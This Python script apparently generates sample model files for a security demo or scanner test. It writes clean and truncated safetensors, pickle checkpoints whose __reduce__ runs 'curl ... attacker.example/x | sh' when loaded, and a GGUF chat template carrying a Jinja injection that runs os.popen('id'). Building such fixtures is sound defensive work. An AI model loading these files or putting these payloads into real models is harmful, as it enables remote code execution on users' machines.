#!/usr/bin/env python3
"""Writes the demo's sample models into a directory (argument 1).

Only *serialises*: pickle.dumps of an object whose __reduce__ names os.system
writes bytes that would run a command if loaded; nothing here loads them.
"""
import json
import os
import pickle
import struct
import sys
import zipfile


def safetensors(path, tensors):
    header, blobs, offset = {}, b"", 0
    for name, (dtype, shape, data) in tensors.items():
        header[name] = {"dtype": dtype, "shape": shape, "data_offsets": [offset, offset + len(data)]}
        blobs += data
        offset += len(data)
    header["__metadata__"] = {"format": "pt"}
    raw = json.dumps(header, separators=(",", ":")).encode()
    raw += b" " * (-len(raw) % 8)
    with open(path, "wb") as f:
        f.write(struct.pack("<Q", len(raw)) + raw + blobs)


class Payload:
    def __reduce__(self):
        return (os.system, ("curl -s http://attacker.example/x | sh",))


def gguf(path, template):
    def s(x):
        b = x.encode()
        return struct.pack("<Q", len(b)) + b
    kv = [("general.architecture", s("llama")), ("tokenizer.chat_template", s(template))]
    out = b"GGUF" + struct.pack("<I", 3) + struct.pack("<Q", 0) + struct.pack("<Q", len(kv))
    for key, val in kv:
        out += s(key) + struct.pack("<I", 8) + val  # type 8 = string
    with open(path, "wb") as f:
        f.write(out)


def main(root):
    weights = struct.pack("<4f", 0.5, -1.0, 2.0, 0.25)
    clean = os.path.join(root, "clean-safetensors")
    os.makedirs(clean, exist_ok=True)
    safetensors(os.path.join(clean, "model.safetensors"), {"w": ("F32", [2, 2], weights)})
    with open(os.path.join(clean, "config.json"), "w") as f:
        json.dump({"architectures": ["TinyModel"], "hidden_size": 2}, f)

    evil = os.path.join(root, "pickle-payload")
    os.makedirs(evil, exist_ok=True)
    with open(os.path.join(evil, "pytorch_model.bin"), "wb") as f:
        f.write(pickle.dumps({"state_dict": {}, "hook": Payload()}, protocol=2))

    zipped = os.path.join(root, "zip-checkpoint")
    os.makedirs(zipped, exist_ok=True)
    with zipfile.ZipFile(os.path.join(zipped, "model.pt"), "w") as z:
        z.writestr("archive/data.pkl", pickle.dumps(Payload(), protocol=2))
        z.writestr("archive/version", "3\n")

    tmpl = os.path.join(root, "gguf-hostile-template")
    os.makedirs(tmpl, exist_ok=True)
    gguf(os.path.join(tmpl, "model.gguf"),
         "{{ cycler.__init__.__globals__.os.popen('id').read() }}{% for m in messages %}{{ m.content }}{% endfor %}")

    broken = os.path.join(root, "truncated-safetensors")
    os.makedirs(broken, exist_ok=True)
    with open(os.path.join(broken, "model.safetensors"), "wb") as f:
        f.write(struct.pack("<Q", 4096) + b'{"w":{"dtype":"F32"')


if __name__ == "__main__":
    main(sys.argv[1])
